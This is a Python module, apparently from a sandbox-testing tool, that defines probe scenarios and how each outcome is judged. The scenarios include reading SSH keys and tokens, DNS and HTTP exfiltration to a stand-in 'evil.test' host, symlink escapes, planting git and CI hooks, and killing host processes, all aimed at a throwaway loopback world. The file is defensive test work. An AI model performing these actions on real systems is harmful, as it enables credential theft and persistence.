"""The probe's scenarios as data: the actions, how the agent script attempts each, and how
the outcome is judged.

A scenario is built for a :class:`Layout` (where the throw-away world lives, its ports,
the canary and a per-run nonce), so the same description serves the model (which needs
only the :class:`~stockade.model.Action` values and the policy) and the real run (which
also needs the attempt and the judge). Building is pure: nothing here touches the disk.

Judges, by who can see the outcome:

``inside``
    the agent script reports success (a read returned the canary, a download the
    expected bytes, a syscall succeeded);
``host_file``
    the host file named by the action holds the nonce after the run;
``process``
    a process whose command line holds the nonce is alive on the host after the run;
``fixture``
    the host fixture process was killed;
``sink:NAME``
    the recording server NAME received the nonce (or, for ``api``, the attacker's key);
``kernel``
    the agent's call was answered and the kernel that answered it is the host's: the
    release, version and boot id it reports inside are the host's own;
``host_link``
    the host path named by the action is a symlink to the action's ``link_to``.

Under the ``overlay`` scenario the workspace is in ``mode = "overlay"``: the judge looks
at the host after the probe, as the person reviewing, applied the changes of the
actions marked ``approved`` (the needed write, and two the reviewer is fooled into
approving) and discarded the rest.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

from stockade._record import replace
from stockade.model import Action, Credential, Kind
from stockade.policy import (
    BoundSecret,
    EnvPass,
    EnvPolicy,
    FilesystemPolicy,
    Labels,
    LimitsPolicy,
    NetworkPolicy,
    Policy,
    RequestRule,
)

#: The names the world's servers answer to; all pinned to 127.0.0.1 by ``network.hosts``.
REGISTRY = "registry.test"
EVIL = "evil.test"
API = "api.test"
LOOPBACK = "127.0.0.1"

#: What the registry serves as the package the task needs.
PACKAGE_BODY = b"left-pad 1.3.0: the package the task needs\n"
WORKSPACE_SOURCE = "print('hello from the workspace')\n"
FILE_SIZE_LIMIT = 1024 * 1024
#: The workspace file whose values the extended scenario labels (``[labels]``).
LABELLED_FILE = ".env"

SCENARIOS = ("seed", "extended", "overlay")


@dataclass(frozen=True, slots=True)
class Layout:
    """Where the throw-away world is and how to reach its servers."""

    root: Path
    canary: str = "CANARY-0"
    nonce: str = "nonce"
    registry_port: int = 8001
    api_port: int = 8002
    evil_port: int = 8003
    sink_port: int = 8004
    dns_port: int = 8005
    host_pid: int = 0

    @property
    def home(self) -> Path:
        """The throw-away HOME holding canary secrets."""
        return self.root / "home"

    @property
    def workspace(self) -> Path:
        """The project the "test suite" runs in."""
        return self.root / "project"

    @property
    def labelled_secret(self) -> str:
        """The database password in the workspace's ``.env``, a labelled value."""
        return f"pg-password-{self.canary}"

    @property
    def system(self) -> Path:
        """A directory the policy grants read-only: the probe's stand-in for /etc.

        The probe never writes the real /etc or /usr (it runs unsandboxed in the empty
        subset); a read-only grant of the policy is judged by the same rules.
        """
        return self.root / "system" / "etc"

    @property
    def ca_file(self) -> Path:
        """The test CA that signs the registry's and the API's certificates.

        Under the read-only grant, so a client inside can verify the servers; the policy
        names it as ``network.tls.upstream_ca`` for the proxy's side.
        """
        return self.system.parent / "ssl" / "probe-ca.pem"

    @property
    def unix_socket(self) -> Path:
        """A host service's unix socket (a stand-in for docker.sock)."""
        return self.root / "run" / "docker.sock"

    @property
    def state(self) -> Path:
        """XDG directories of the runs (audit logs and caches stay in the world)."""
        return self.root / "state"


@dataclass(frozen=True, slots=True)
class Step:
    """One action of a scenario, with how the agent attempts it and how it is judged."""

    action: Action
    attempt: dict[str, Any]
    judge: str = "inside"


@dataclass(frozen=True, slots=True)
class Scenario:
    """A scenario built for one layout."""

    name: str
    policy: Policy
    steps: tuple[Step, ...]
    #: the caller environment the run starts from (the secrets layer filters it)
    env: dict[str, str] = field(default_factory=dict)

    @property
    def actions(self) -> tuple[Action, ...]:
        """The model's view: the actions alone."""
        return tuple(s.action for s in self.steps)


#: The caller variable the API's bound credential is read from (by the proxy, on the host).
API_SECRET_SOURCE = "PROBE_API_SECRET"  # noqa: S105 - a variable name, not a secret


def _url(host: str, port: int, path: str) -> str:
    return f"https://{host}:{port}{path}"


def scenario_policy(layout: Layout) -> Policy:
    """The policy every scenario runs under.

    The registry and the API are allowed; the registry is read-only by request rules
    (GET and HEAD), the API's key is bound to it. Both speak TLS on their ports, which
    are TLS ports of the policy (an inspected host is reached only over TLS), with
    certificates of the world's test CA.
    """
    return Policy(
        filesystem=FilesystemPolicy(workspace=layout.workspace, read=(layout.system.parent,)),
        env=EnvPolicy(pass_=(EnvPass("PROBE_BUILD_MODE"),)),
        network=NetworkPolicy(
            allow=(REGISTRY, API),
            hosts={REGISTRY: LOOPBACK, API: LOOPBACK, EVIL: LOOPBACK},
            tls_ports=(443, layout.registry_port, layout.api_port),
            rules=(RequestRule(REGISTRY, methods=("GET", "HEAD")),),
            upstream_ca=layout.ca_file,
        ),
        limits=LimitsPolicy(file_size=FILE_SIZE_LIMIT),
        secrets=(BoundSecret("PROBE_API_TOKEN", f"env:{API_SECRET_SOURCE}", (API,)),),
    )


def extended_policy(layout: Layout) -> Policy:
    """The scenario policy with the workspace's ``.env`` labelled.

    Labels make every TLS host inspected; the hosts the policy allows already are (the
    registry has rules, the API a bound secret), so no other action's outcome changes.
    """
    return replace(scenario_policy(layout), labels=Labels(secret_files=(LABELLED_FILE,)))


def _https(lo: Layout, method: str, host: str, port: int, path: str) -> dict[str, Any]:
    """The attempt of an HTTPS request, verified against the world's test CA."""
    return {
        "op": "http",
        "method": method,
        "host": host,
        "port": port,
        "path": path,
        "tls": True,
        "ca": str(lo.ca_file),
    }


def _seed_steps(lo: Layout) -> list[Step]:
    ws = lo.workspace
    tag = lo.nonce
    return [
        Step(
            Action(
                "read-workspace",
                Kind.FILE_READ,
                str(ws / "src" / "app.py"),
                True,
                "read a workspace file",
            ),
            {
                "op": "read",
                "path": str(ws / "src" / "app.py"),
                "expect": "hello from the workspace",
            },
        ),
        Step(
            Action(
                "write-workspace",
                Kind.FILE_WRITE,
                str(ws / "build" / "out.txt"),
                True,
                "write a workspace file",
                # under the overlay, the reviewer applies the write the task needs
                approved=True,
            ),
            {
                "op": "write",
                "path": str(ws / "build" / "out.txt"),
                "data": f"{tag}:write-workspace",
            },
            "host_file",
        ),
        Step(
            Action(
                "download",
                Kind.NET_REQUEST,
                _url(REGISTRY, lo.registry_port, "/pkg/left-pad.tgz"),
                True,
                "download a package from the registry",
                host=REGISTRY,
                port=lo.registry_port,
                method="GET",
                path="/pkg/left-pad.tgz",
                address=LOOPBACK,
            ),
            {
                **_https(lo, "GET", REGISTRY, lo.registry_port, "/pkg/left-pad.tgz"),
                "expect": PACKAGE_BODY.decode(),
            },
        ),
        Step(
            Action(
                "read-ssh-key",
                Kind.FILE_READ,
                str(lo.home / ".ssh" / "id_ed25519"),
                False,
                "read ~/.ssh/id_ed25519",
            ),
            {"op": "read", "path": str(lo.home / ".ssh" / "id_ed25519"), "expect": lo.canary},
        ),
        Step(
            Action(
                "write-system",
                Kind.FILE_WRITE,
                str(lo.system / "profile.d" / "evil.sh"),
                False,
                "write a system file (read-only system directory)",
            ),
            {
                "op": "write",
                "path": str(lo.system / "profile.d" / "evil.sh"),
                "data": f"{tag}:write-system",
            },
            "host_file",
        ),
        Step(
            Action(
                "survive",
                Kind.PROCESS_SURVIVE,
                "daemon",
                False,
                "leave a process running on the host after the sandbox ends",
            ),
            {"op": "daemon", "mark": f"{tag}:survive", "seconds": 5},
            "process",
        ),
        Step(
            Action(
                "connect-evil",
                Kind.NET_CONNECT,
                f"{EVIL}:{lo.evil_port}",
                False,
                "connect to another host (evil.test)",
                host=EVIL,
                port=lo.evil_port,
                address=LOOPBACK,
            ),
            {"op": "tcp", "host": EVIL, "port": lo.evil_port, "data": f"{tag}:connect-evil"},
            "sink:evil",
        ),
        Step(
            Action(
                "upload",
                Kind.NET_REQUEST,
                _url(REGISTRY, lo.registry_port, "/upload"),
                False,
                "upload to the allowed registry (PUT)",
                host=REGISTRY,
                port=lo.registry_port,
                method="PUT",
                path="/upload",
                address=LOOPBACK,
            ),
            {
                **_https(lo, "PUT", REGISTRY, lo.registry_port, "/upload"),
                "data": f"{tag}:upload",
            },
            "sink:registry",
        ),
    ]


def _extended_steps(lo: Layout) -> list[Step]:
    ws = lo.workspace
    tag = lo.nonce
    return [
        Step(
            Action(
                "env-passed",
                Kind.ENV_READ,
                "PROBE_BUILD_MODE",
                True,
                "read a variable the policy passes",
            ),
            {"op": "env", "name": "PROBE_BUILD_MODE", "expect": "release"},
        ),
        Step(
            Action(
                "env-token", Kind.ENV_READ, "GH_TOKEN", False, "read a token from the environment"
            ),
            {"op": "env", "name": "GH_TOKEN", "expect": lo.canary},
        ),
        Step(
            Action(
                "foreign-key",
                Kind.NET_REQUEST,
                _url(API, lo.api_port, "/v1/me"),
                False,
                "use an attacker's key on the allowed API",
                host=API,
                port=lo.api_port,
                method="GET",
                path="/v1/me",
                address=LOOPBACK,
                credential=Credential.FOREIGN,
            ),
            {
                **_https(lo, "GET", API, lo.api_port, "/v1/me"),
                "headers": {"Authorization": f"Bearer ATTACKER-{tag}"},
            },
            "sink:api",
        ),
        Step(
            Action(
                "dns-exfil",
                Kind.DNS_LOOKUP,
                f"{tag}.exfil.{EVIL}",
                False,
                "DNS lookup of an attacker name (at the attacker's resolver)",
                host=f"{tag}.exfil.{EVIL}",
                port=53,
                address=LOOPBACK,
            ),
            {"op": "dns", "server": LOOPBACK, "port": lo.dns_port, "name": f"{tag}.exfil.{EVIL}"},
            "sink:dns",
        ),
        Step(
            Action(
                "symlink-read",
                Kind.FILE_READ,
                str(ws / "docs" / "notes.txt"),
                False,
                "read ~/.ssh through a symlink in the workspace",
                resolved=str(lo.home / ".ssh" / "id_ed25519"),
            ),
            {"op": "read", "path": str(ws / "docs" / "notes.txt"), "expect": lo.canary},
        ),
        Step(
            Action(
                "git-hook",
                Kind.FILE_WRITE,
                str(ws / ".git" / "hooks" / "pre-commit"),
                False,
                "write a git hook (runs later on the host)",
            ),
            {
                "op": "write",
                "path": str(ws / ".git" / "hooks" / "pre-commit"),
                "data": f"#!/bin/sh\n# {tag}:git-hook\n",
            },
            "host_file",
        ),
        Step(
            Action(
                "loopback-service",
                Kind.NET_CONNECT,
                f"{LOOPBACK}:{lo.sink_port}",
                False,
                "reach a loopback service on the host",
                host=LOOPBACK,
                port=lo.sink_port,
                address=LOOPBACK,
            ),
            {
                "op": "tcp",
                "host": LOOPBACK,
                "port": lo.sink_port,
                "data": f"{tag}:loopback-service",
            },
            "sink:loopback",
        ),
        Step(
            Action(
                "host-socket",
                Kind.UNIX_CONNECT,
                str(lo.unix_socket),
                False,
                "connect to a host service's unix socket",
            ),
            {"op": "unix", "path": str(lo.unix_socket), "data": f"{tag}:host-socket"},
            "sink:unix",
        ),
        Step(
            Action(
                "signal-host",
                Kind.PROCESS_SIGNAL,
                f"pid {lo.host_pid}",
                False,
                "kill a process of the host",
            ),
            {"op": "kill", "pid": lo.host_pid},
            "fixture",
        ),
        Step(
            Action(
                "nested-userns",
                Kind.SYSCALL,
                "userns",
                False,
                "create a user namespace (the remount trick)",
            ),
            {"op": "userns"},
        ),
        Step(
            Action(
                "host-kernel",
                Kind.HOST_KERNEL,
                "sendmsg:SCM_RIGHTS",
                False,
                "make the host kernel parse a control message (sendmsg SCM_RIGHTS)",
            ),
            {"op": "cmsg", "data": f"{tag}:host-kernel"},
            "kernel",
        ),
        Step(
            Action(
                "disk-fill",
                Kind.RESOURCE,
                "file_size",
                False,
                f"write a file past the {FILE_SIZE_LIMIT // 1024} KiB size limit",
                amount=2 * FILE_SIZE_LIMIT,
            ),
            {"op": "bigwrite", "path": str(ws / "build" / "big.bin"), "size": 2 * FILE_SIZE_LIMIT},
        ),
        _encoded_label_step(lo),
    ]


def _encoded_label_step(lo: Layout) -> Step:
    """A GET to the allowed, inspected registry with the labelled password base64-encoded
    in its query (one byte of prefix: the second of base64's three alignments).

    The query also carries the run's mark in the clear, so the registry's record shows
    whether the request got there.
    """
    tag = lo.nonce
    encoded = base64.b64encode(b"p=" + lo.labelled_secret.encode()).decode()
    path = f"/-/v1/search?text={quote(encoded, safe='')}&from={tag}:encoded-label"
    return Step(
        Action(
            "encoded-label",
            Kind.NET_REQUEST,
            _url(REGISTRY, lo.registry_port, path),
            False,
            "send a labelled secret base64-encoded in a GET query to the allowed registry",
            host=REGISTRY,
            port=lo.registry_port,
            method="GET",
            path="/-/v1/search",
            address=LOOPBACK,
            labelled=True,
        ),
        _https(lo, "GET", REGISTRY, lo.registry_port, path),
        "sink:registry",
    )


def overlay_policy(layout: Layout) -> Policy:
    """The scenario policy with the workspace in ``mode = "overlay"``."""
    base = scenario_policy(layout)
    return replace(base, filesystem=replace(base.filesystem, overlay=True))


def _overlay_steps(lo: Layout) -> list[Step]:
    """What a compromised dependency writes into the workspace for a person to commit
    later, and what a fooled reviewer would let through at apply."""
    ws = lo.workspace
    tag = lo.nonce
    return [
        Step(
            Action(
                "tamper-ci",
                Kind.FILE_WRITE,
                str(ws / ".github" / "workflows" / "ci.yml"),
                False,
                "edit the CI configuration (committed later by a person)",
            ),
            {
                "op": "write",
                "path": str(ws / ".github" / "workflows" / "ci.yml"),
                "data": f"# {tag}:tamper-ci\non: push\n",
            },
            "host_file",
        ),
        Step(
            Action(
                "hook-approved",
                Kind.FILE_WRITE,
                str(ws / ".husky" / "pre-commit"),
                False,
                "write a commit hook the reviewer approves (a protected path)",
                approved=True,
            ),
            {
                "op": "write",
                "path": str(ws / ".husky" / "pre-commit"),
                "data": f"#!/bin/sh\n# {tag}:hook-approved\n",
            },
            "host_file",
        ),
        Step(
            Action(
                "link-out",
                Kind.FILE_WRITE,
                str(ws / "tools" / "cache"),
                False,
                "plant a symlink to ~/.ssh the reviewer approves (a host tool writes there)",
                approved=True,
                link_to=str(lo.home / ".ssh"),
            ),
            {"op": "symlink", "path": str(ws / "tools" / "cache"), "to": str(lo.home / ".ssh")},
            "host_link",
        ),
    ]


def build(name: str, layout: Layout) -> Scenario:
    """Build scenario ``name`` (``seed``, ``extended`` or ``overlay``) for ``layout``."""
    if name not in SCENARIOS:
        raise ValueError(f"unknown scenario {name!r}; scenarios are {', '.join(SCENARIOS)}")
    steps = _seed_steps(layout)
    policy = scenario_policy(layout)
    if name == "extended":
        steps += _extended_steps(layout)
        policy = extended_policy(layout)
    elif name == "overlay":
        steps += _overlay_steps(layout)
        policy = overlay_policy(layout)
    env = {
        "GH_TOKEN": layout.canary,
        "NPM_TOKEN": layout.canary,
        "PROBE_BUILD_MODE": "release",
        # The bound credential's real value: the proxy would read it on the host; the
        # sandbox is never given it (not on the allow-list).
        API_SECRET_SOURCE: f"REAL-{layout.canary}",
    }
    return Scenario(name, policy, tuple(steps), env)
